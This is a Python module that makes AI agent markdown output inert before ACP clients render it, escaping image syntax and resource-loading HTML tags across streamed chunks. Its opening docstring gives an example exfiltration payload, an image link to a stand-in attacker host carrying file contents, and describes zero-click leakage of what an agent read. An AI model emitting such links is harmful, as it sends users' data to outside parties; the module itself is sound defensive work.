"""Model text made inert for ACP clients, which render markdown themselves.

An image in an answer (``![x](https://attacker/?d=<file contents>)``) is fetched by a client
that renders images the moment it is drawn, with no click: a zero-click way out for anything the
agent read. lovia cannot see how a client renders, so it escapes the syntax before the text
leaves: ``![`` becomes ``\\![`` (a ``!`` and a link, the URL visible and only opened by a
click) and an HTML tag that would load something (``<img``, ``<video``, ...) becomes ``\\<img``
(shown as text). A tag where a block may start (a line's start, after list or quote markers) is
escaped too, whatever its name, so no client ever parses an HTML block from model text: inside
one, escapes would not work, and the block would put the code-fence tracking below out of step
with the client's.

Code is left alone where that is certain: inside a fenced block opened at column 0 (```` ``` ````
or ``~~~``), where CommonMark renders everything as text, the text passes unchanged (Rust's
``vec![1, 2]`` stays as written). Where a fence might be open but lovia cannot be sure (a fence
inside a list or quote, after a table, across a message boundary the client may or may not
join), the text is escaped from then on: a stray backslash in code is the price, never an image.
Inline code spans are not tracked: ``![`` inside backticks shows the backslash.

Streaming: ``InertMarkdown`` keeps the state between chunks and holds back the few characters
whose meaning depends on the next chunk (a trailing ``!``, ``<`` or ``<im``), so ``!`` at the end
of one chunk and ``[`` at the start of the next are escaped like ``![`` in one piece.
"""

from __future__ import annotations

import re
from typing import Literal

# Elements that load a resource by themselves (src, srcset, poster, data, href, background).
LOADING_TAGS: frozenset[str] = frozenset(
    {
        "img",
        "image",
        "picture",
        "source",
        "video",
        "audio",
        "track",
        "svg",
        "use",
        "feimage",
        "iframe",
        "frame",
        "frameset",
        "embed",
        "object",
        "applet",
        "portal",
        "link",
        "meta",
        "base",
        "style",
        "script",
        "input",
        "body",
        "table",
        "td",
        "th",
    }
)
_MAX_TAG = max(len(t) for t in LOADING_TAGS)

_SPECIAL = re.compile(r"[!<\r\n]")
_TAG_NAME = re.compile(r"[A-Za-z][A-Za-z0-9]*")
_OPENING_FENCE = re.compile(r"(`{3,})[^`]*|(~{3,}).*")
# What may stand before a fence inside a container: indentation, quote and list markers.
_CONTAINER_PREFIX = " \t>*+-.)0123456789"

Mode = Literal["text", "fence", "unknown"]


class InertMarkdown:
    """One markdown document as it streams: ``feed`` each chunk, ``end`` when it is complete,
    ``boundary`` where the client may start a new document or go on with this one."""

    def __init__(self) -> None:
        self._mode: Mode = "text"
        self._fence: tuple[str, int] = ("`", 3)
        self._line = ""  # the current line's input so far
        self._new_doc_at: int | None = None  # where in _line a client may have begun anew
        self._table = False  # a line with "|" since the last blank one: GFM table rules apply
        self._first_line = True
        self._slashes = 0  # backslashes right before the input still to come
        self._held = ""
        self._bang_open = False  # the text sent ends in a "!" that a "[" must not follow

    def feed(self, text: str) -> str:
        return self._run(self._held + text, final=False)

    def end(self) -> str:
        """What is held back, escaped as if anything could follow (a later chunk the client
        joins to this one)."""
        if self._held == "!":
            # Answers often end in "!": it goes out as it is, and should the client join a
            # "[" to it, that "[" is escaped instead.
            self._held = ""
            self._consume("!", [])
            self._bang_open = True
            return "!"
        out = self._run(self._held, final=True)
        if self._slashes % 2 and self._mode != "fence":
            # A trailing odd backslash would escape whatever the client puts next; doubled, it
            # shows the same and escapes nothing.
            out += "\\"
            self._slashes = 0
        return out

    def boundary(self) -> str:
        """``end`` plus caution: after this the client may join the next text to this document
        or start a new one, so code-fence tracking only goes on where both agree."""
        out = self.end()
        if self._mode == "fence":
            self._mode = "unknown"
        if self._line:
            self._new_doc_at = len(self._line)
        self._first_line = True
        return out

    # ------------------------------------------------------------------ the scan

    def _run(self, buf: str, *, final: bool) -> str:
        self._held = ""
        out: list[str] = []
        if self._bang_open and buf:
            self._bang_open = False
            if buf[0] == "[":
                out.append("\\")
        pos = 0
        for match in _SPECIAL.finditer(buf):
            i = match.start()
            self._consume(buf[pos:i], out)
            pos = i
            c = buf[i]
            if c in "\r\n":
                out.append(c)
                if not (c == "\n" and i > 0 and buf[i - 1] == "\r"):
                    self._end_line()
                self._slashes = 0
                pos = i + 1
                continue
            if self._mode == "fence" or self._slashes % 2:
                self._consume(c, out)
                pos = i + 1
                continue
            escape = self._bang(buf, i, final) if c == "!" else self._angle(buf, i, final)
            if escape is None:
                self._held = buf[i:]
                return "".join(out)
            if escape:
                out.append("\\")
            self._consume(c, out)
            pos = i + 1
        self._consume(buf[pos:], out)
        return "".join(out)

    def _consume(self, piece: str, out: list[str]) -> None:
        """Text (no line ending in it) passed as it is."""
        if not piece:
            return
        out.append(piece)
        self._line += piece
        stripped = piece.rstrip("\\")
        trailing = len(piece) - len(stripped)
        self._slashes = trailing if stripped else self._slashes + trailing

    # Each returns whether to escape the character at ``i``, or None while that depends on text
    # still to come. At the very end (``final``) anything may follow, so the answer is yes.

    def _bang(self, buf: str, i: int, final: bool) -> bool | None:
        if i + 1 >= len(buf):
            return True if final else None
        return buf[i + 1] == "["

    def _angle(self, buf: str, i: int, final: bool) -> bool | None:
        if self._at_block_start():
            # Never let an HTML block start: escapes do not work inside one, and it would
            # swallow the lines after it (fences included).
            if i + 1 >= len(buf):
                return True if final else None
            nxt = buf[i + 1]
            return (nxt.isascii() and nxt.isalpha()) or nxt in "/!?"
        name = _TAG_NAME.match(buf, i + 1)
        if name is None:
            return (True if final else None) if i + 1 >= len(buf) else False
        end = name.end()
        if end >= len(buf) and not final and end - i - 1 <= _MAX_TAG:
            return None  # the tag name may go on in the next chunk
        tag = name.group().lower()
        if end >= len(buf):  # the end of the text: a later chunk may complete the name
            return any(t.startswith(tag) for t in LOADING_TAGS)
        after = buf[end]
        return tag in LOADING_TAGS and (after.isspace() or after in "/>")

    def _at_block_start(self) -> bool:
        """Only indentation and list or quote markers before: a block (an HTML one) could
        begin here, inside a list item or quote too."""
        starts = [self._line]
        if self._new_doc_at is not None:
            starts.append(self._line[self._new_doc_at :])
        return any(not s.lstrip(_CONTAINER_PREFIX) for s in starts)

    # ------------------------------------------------------------------ lines

    def _end_line(self) -> None:
        line, self._line = self._line, ""
        new_doc_at, self._new_doc_at = self._new_doc_at, None
        first, self._first_line = self._first_line, False
        if self._mode == "fence":
            char, length = self._fence
            if re.fullmatch(rf" {{0,3}}{re.escape(char)}{{{length},}}[ \t]*", line):
                self._mode = "text"
                self._table = False
            return
        if self._mode != "text":
            return
        views = [line] if new_doc_at is None else [line, line[new_doc_at:]]
        kinds = {_kind(v) for v in views}
        if first and any(v.strip() in ("---", "+++") for v in views):
            self._mode = "unknown"  # maybe a metadata block, which hides what follows
        elif "maybe-fence" in kinds or ("fence" in kinds and (len(kinds) > 1 or self._table)):
            self._mode = "unknown"
        elif kinds == {"fence"}:
            opener = _OPENING_FENCE.fullmatch(line)
            assert opener is not None
            run = opener.group(1) or opener.group(2)
            self._mode = "fence"
            self._fence = (run[0], len(run))
        if "|" in line:
            self._table = True
        elif kinds == {"blank"}:
            self._table = False


def _kind(line: str) -> Literal["blank", "fence", "maybe-fence", "other"]:
    if not line.strip():
        return "blank"
    if _OPENING_FENCE.fullmatch(line):
        return "fence"
    rest = line.lstrip(_CONTAINER_PREFIX)
    if rest.startswith(("```", "~~~")):
        return "maybe-fence"  # indented, in a list or quote, or a backtick in the info string
    return "other"


def inert(text: str) -> str:
    """One complete piece of markdown (a title, a plan entry, a tool's output) made inert."""
    if "!" not in text and "<" not in text:
        return text
    doc = InertMarkdown()
    return doc.feed(text) + doc.end()


__all__ = ["LOADING_TAGS", "InertMarkdown", "inert"]
